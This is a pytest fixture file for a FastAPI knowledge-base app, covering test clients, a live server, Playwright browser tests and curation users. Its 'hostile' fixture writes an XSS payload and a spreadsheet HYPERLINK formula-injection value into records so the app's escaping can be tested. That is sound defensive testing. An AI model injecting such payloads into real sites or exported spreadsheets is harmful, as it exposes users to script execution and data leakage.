"""Web fixtures: one app over the seed knowledge base, an in-process client, and for the
``browser`` tests a live server with Debian's Chromium driven by Playwright."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Awaitable, Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, TypeVar

import anyio
import pytest
import uvicorn
from fastapi import FastAPI
from fastapi.testclient import TestClient

from sse_atlas.kb import KnowledgeBase
from sse_atlas.web import create_app
from tests.conftest import copy_of

if TYPE_CHECKING:
    from playwright.sync_api import Browser

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
ARTIFACTS = Path(__file__).resolve().parents[2] / "artifacts" / "web"
T = TypeVar("T")
HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'


def pytest_configure(config: pytest.Config) -> None:
    config.addinivalue_line(
        "markers", "browser: end-to-end test in a real browser (Debian's /usr/bin/chromium)"
    )


@pytest.fixture(scope="session")
def app(seed_kb: KnowledgeBase) -> FastAPI:
    return create_app(seed_kb)


@pytest.fixture
def client(app: FastAPI) -> Iterator[TestClient]:
    """A client of its own for each test, so that no cookie leaks from one test to another."""
    with TestClient(app) as test_client:
        yield test_client


@pytest.fixture(scope="session")
def hostile_kb(
    seed_kb: KnowledgeBase, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[KnowledgeBase]:
    """A copy of the seed with markup written into one initiative by curator edits."""
    kb = copy_of(seed_kb, tmp_path_factory.mktemp("hostile"))
    record = "gsef2018-fr/4.2.1"
    kb.edit(record, "title", f"Title {HOSTILE}")
    kb.edit(record, "description", f"Description {HOSTILE}")
    kb.edit(record, "organisation", f"Org {HOSTILE}")
    kb.edit("gsef2018-fr/4.2.2", "title", FORMULA)  # what a spreadsheet would run
    yield kb
    kb.close()


@pytest.fixture(scope="session")
def hostile_client(hostile_kb: KnowledgeBase) -> Iterator[TestClient]:
    with TestClient(create_app(hostile_kb)) as test_client:
        yield test_client


@pytest.fixture(scope="session")
def timed_client(
    seed_kb: KnowledgeBase, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[TestClient]:
    """The seed as a catalogue that states times and rooms would give it: workshop 4.2 from
    14:00 to 15:30 in Sala Bizkaia, 4.3 from 16:00 with no room stated."""
    kb = copy_of(seed_kb, tmp_path_factory.mktemp("timed"))
    for record, field, value in (
        ("gsef2018-fr/4.2", "start_time", "14:00"),
        ("gsef2018-fr/4.2", "end_time", "15:30"),
        ("gsef2018-fr/4.2", "room", "Sala Bizkaia"),
        ("gsef2018-fr/4.3", "start_time", "16:00"),
    ):
        kb.edit(record, field, value)
    with TestClient(create_app(kb)) as test_client:
        yield test_client
    kb.close()


def run_async(main: Callable[[], Awaitable[T]]) -> T:
    """``anyio.run(main)`` in a thread of its own: the browser tests' Playwright keeps an event
    loop running in the main thread for the whole session."""
    with ThreadPoolExecutor(max_workers=1) as pool:
        return pool.submit(anyio.run, main).result(timeout=60)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


@contextmanager
def serving(app: FastAPI) -> Iterator[str]:
    """``app`` served by uvicorn in a thread on a free loopback port; stopped on leaving."""
    port = _free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("the test server did not start")
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)


@pytest.fixture(scope="session")
def live_server(app: FastAPI) -> Iterator[str]:
    """The app served by uvicorn on a free loopback port, for the browser."""
    yield from serve_in_thread(app)


def serve_in_thread(app: FastAPI) -> Iterator[str]:
    """Serve ``app`` for the browser until the generator is closed (skips without Chromium)."""
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} is not installed")
    with serving(app) as base:
        yield base


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} is not installed")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield launched
        launched.close()


CURATION_PASSWORD = "a long enough password"


@pytest.fixture(scope="session")
def curation_kb(
    seed_kb: KnowledgeBase, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[KnowledgeBase]:
    """A copy of the seed with an admin, an editor, a contributor and a disabled editor.

    Curation tests share it: each changes records of its own."""
    from sse_atlas.store.curation_types import Role

    kb = copy_of(seed_kb, tmp_path_factory.mktemp("curation"))
    store = kb.repository.curation
    for name, role in (
        ("admin", Role.ADMIN),
        ("editor", Role.EDITOR),
        ("helper", Role.CONTRIBUTOR),
        ("gone", Role.EDITOR),
    ):
        store.add_user(name, CURATION_PASSWORD, role)
    store.set_disabled("gone", True)
    yield kb
    kb.close()


@pytest.fixture(scope="session")
def curation_app(curation_kb: KnowledgeBase) -> FastAPI:
    return create_app(curation_kb)


@pytest.fixture
def curation_client(curation_app: FastAPI) -> Iterator[TestClient]:
    """A fresh browser on the curation app, its rate limits reset."""
    from sse_atlas.web.auth import LOGIN_LIMIT, SUGGEST_LIMIT
    from sse_atlas.web.ratelimit import RateLimit

    guard = curation_app.state.guard
    guard.login_limit = RateLimit(*LOGIN_LIMIT)
    guard.suggest_limit = RateLimit(*SUGGEST_LIMIT)
    with TestClient(curation_app) as test_client:
        yield test_client
